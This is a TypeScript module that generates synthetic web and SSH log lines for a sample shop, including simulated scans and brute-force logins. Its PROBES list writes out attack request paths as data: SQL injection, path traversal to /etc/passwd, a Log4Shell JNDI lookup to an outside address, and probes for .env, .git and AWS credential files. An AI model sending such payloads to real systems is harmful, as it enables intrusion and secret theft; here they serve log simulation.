import { nginxLine, type Request, sshdLine, traefikLine } from "./lines.ts";
import { Random } from "./random.ts";
import { administrator, attacker, Crowd } from "./world.ts";

/** Where a line goes, below the folder of the samples. */
export type SampleFile = "nginx/access.log" | "auth.log" | "traefik/access.json";

export interface SampleLine {
  readonly at: number;
  readonly file: SampleFile;
  readonly text: string;
}

const SECOND = 1_000;
const MINUTE = 60 * SECOND;

/** One minute in so many is an attack; the numbers share no factor, so that attacks drift against each other. */
const SCAN_EVERY = 7;
const BRUTE_FORCE_EVERY = 8;

const PAGES = [
  "/",
  "/products",
  "/products/42",
  "/products/108",
  "/cart",
  "/about",
  "/blog",
  "/blog/winter-sale",
  "/search?q=lamp",
  "/contact",
] as const;
const FILES = [
  "/static/site.css",
  "/static/app.js",
  "/static/logo.svg",
  "/favicon.ico",
  "/static/hero.webp",
] as const;
const CALLS = [
  "/v1/products",
  "/v1/cart",
  "/v1/session",
  "/v1/search?q=desk",
  "/v1/orders/1047",
  "/v1/health",
] as const;
const PROBES = [
  "/.env",
  "/.env.production",
  "/.git/config",
  "/.git/HEAD",
  "/.aws/credentials",
  "/wp-login.php",
  "/wp-admin/setup-config.php",
  "/xmlrpc.php",
  "/phpmyadmin/index.php",
  "/pma/",
  "/admin/",
  "/administrator/index.php",
  "/backup.zip",
  "/db.sql",
  "/server-status",
  "/actuator/env",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/luci",
  "/manager/html",
  "/solr/admin/info/system",
  "/products?id=1%27%20OR%20%271%27=%271",
  "/download?file=../../../../etc/passwd",
  "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
  "/?q=$%7Bjndi:ldap://203.0.113.66/a%7D",
  "/shell.php",
  "/old/",
  "/test.php",
  "/info.php",
  "/config.json",
  "/.DS_Store",
] as const;
const GUESSES = [
  "root",
  "admin",
  "ubuntu",
  "test",
  "oracle",
  "git",
  "postgres",
  "user",
  "ftpuser",
  "deploy",
] as const;
/** Accounts that the sample host really has. */
const KNOWN = new Set(["root", "git", "deploy"]);
const STAFF = ["alice", "bob", "deploy"] as const;
const SCANNERS = [
  "Mozilla/5.0 zgrab/0.x",
  "python-requests/2.32.3",
  "curl/8.5.0",
  "Go-http-client/1.1",
] as const;

/**
 * Makes the log lines of a small web shop and its bastion host: visitors, an API behind Traefik, administrators,
 * and from time to time a web scan and an ssh brute force, of which every third one succeeds.
 * Lines come in order of time; equal seeds and calls give equal lines.
 */
export class Traffic {
  readonly #random: Random;
  readonly #crowd: Crowd;
  readonly #rate: number;
  #pid = 21_000;

  /** `rate` is ordinary lines a second over all files, up to 100. */
  constructor(seed: number, rate: number) {
    this.#random = new Random(seed);
    this.#crowd = new Crowd(this.#random);
    this.#rate = Math.min(rate, 100);
  }

  /** Lines of the whole seconds that begin in [from, to). */
  *between(from: number, to: number): Generator<SampleLine> {
    for (let second = Math.ceil(from / SECOND) * SECOND; second < to; second += SECOND)
      yield* this.#second(second);
  }

  #second(at: number): SampleLine[] {
    const random = this.#random;
    const minute = Math.floor(at / MINUTE);
    // A slow wave makes the histogram look like a day in ten minutes.
    const wave = 1 + 0.5 * Math.sin((2 * Math.PI * at) / (10 * MINUTE));
    const lines: SampleLine[] = [];
    const moment = () => at + random.whole(0, SECOND - 1);
    // Sums of small draws: the generator of Poisson numbers is for small means.
    const draws = (mean: number): number => {
      let count = 0;
      for (let rest = mean; rest > 0; rest -= 10) count += random.poisson(Math.min(rest, 10));
      return count;
    };
    for (let count = draws(this.#rate * wave * 0.65); count > 0; count--) lines.push(this.#visit(moment()));
    for (let count = draws(this.#rate * wave * 0.3); count > 0; count--) lines.push(this.#call(moment()));
    if (random.chance(this.#rate * 0.01)) lines.push(...this.#login(moment()));
    if (minute % SCAN_EVERY === 3)
      for (let count = 0; count < 3; count++) lines.push(this.#probe(moment(), minute));
    if (minute % BRUTE_FORCE_EVERY === 5) lines.push(...this.#guess(moment(), minute));
    return lines.sort((left, right) => left.at - right.at);
  }

  #visit(at: number): SampleLine {
    const random = this.#random;
    const { ip, agent } = this.#crowd.next();
    const isPage = random.chance(0.45);
    const path = isPage ? random.pick(PAGES) : random.pick(FILES);
    const status = random.chance(0.02)
      ? 404
      : random.chance(0.004)
        ? 502
        : isPage
          ? 200
          : random.pick([200, 200, 304]);
    const bytes = status === 304 ? 0 : random.whole(300, 48_000);
    const referer = random.chance(0.4) ? "https://shop.example.net/" : "-";
    const request: Request = { at, ip, method: "GET", path, status, bytes, referer, agent };
    return { at, file: "nginx/access.log", text: nginxLine(request) };
  }

  #call(at: number): SampleLine {
    const random = this.#random;
    const { ip, agent } = this.#crowd.next();
    const path = random.pick(CALLS);
    const method = path === "/v1/cart" && random.chance(0.5) ? "POST" : "GET";
    const status = path === "/v1/session" && random.chance(0.15) ? 401 : random.chance(0.01) ? 500 : 200;
    const request: Request = {
      at,
      ip,
      method,
      path,
      status,
      bytes: random.whole(80, 6_000),
      referer: "-",
      agent,
    };
    const text = traefikLine(
      request,
      "api.example.net",
      random.whole(20_000, 60_000),
      random.whole(400_000, 90_000_000),
    );
    return { at, file: "traefik/access.json", text };
  }

  #auth(at: number, pid: number, messages: readonly string[]): SampleLine[] {
    return messages.map((message, index) => {
      const time = at + index * 40;
      return { at: time, file: "auth.log", text: sshdLine(time, pid, message) };
    });
  }

  /** The next process id, a few further on, as on a host where other things happen too. */
  #process(least: number, most: number): number {
    this.#pid += this.#random.whole(least, most);
    return this.#pid;
  }

  #login(at: number): SampleLine[] {
    const random = this.#random;
    const user = random.pick(STAFF);
    const from = `${administrator(random)} port ${random.whole(40_000, 60_000)}`;
    const pid = this.#process(2, 40);
    const opened = `pam_unix(sshd:session): session opened for user ${user}(uid=1001) by ${user}(uid=0)`;
    const accepted = `Accepted publickey for ${user} from ${from} ssh2: ED25519 SHA256:${random.hex(43)}`;
    if (random.chance(0.02))
      return this.#auth(at, pid, [
        `Failed password for ${user} from ${from} ssh2`,
        `Accepted password for ${user} from ${from} ssh2`,
        opened,
      ]);
    return this.#auth(at, pid, [accepted, opened]);
  }

  #probe(at: number, minute: number): SampleLine {
    const random = this.#random;
    const scan = new Random(minute * 31);
    const ip = attacker(scan);
    const agent = scan.pick(SCANNERS);
    const path = random.pick(PROBES);
    const status = path.includes("..") || path.includes("jndi") ? 400 : random.chance(0.15) ? 403 : 404;
    const request: Request = { at, ip, method: "GET", path, status, bytes: 153, referer: "-", agent };
    return { at, file: "nginx/access.log", text: nginxLine(request) };
  }

  #guess(at: number, minute: number): SampleLine[] {
    const random = this.#random;
    const ip = attacker(new Random(minute * 17));
    const from = `${ip} port ${random.whole(30_000, 60_000)}`;
    const pid = this.#process(2, 9);
    const isLast = Math.floor(at / SECOND) % 60 === 59;
    if (isLast && Math.floor(minute / BRUTE_FORCE_EVERY) % 3 === 0) {
      const opened = "pam_unix(sshd:session): session opened for user deploy(uid=1001) by deploy(uid=0)";
      return this.#auth(at, pid, [`Accepted password for deploy from ${from} ssh2`, opened]);
    }
    const user = random.pick(GUESSES);
    if (KNOWN.has(user)) {
      return this.#auth(at, pid, [
        `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=${user}`,
        `Failed password for ${user} from ${from} ssh2`,
        `Connection closed by authenticating user ${user} ${from} [preauth]`,
      ]);
    }
    return this.#auth(at, pid, [
      `Invalid user ${user} from ${from}`,
      `Failed password for invalid user ${user} from ${from} ssh2`,
      `Connection closed by invalid user ${user} ${from} [preauth]`,
    ]);
  }
}
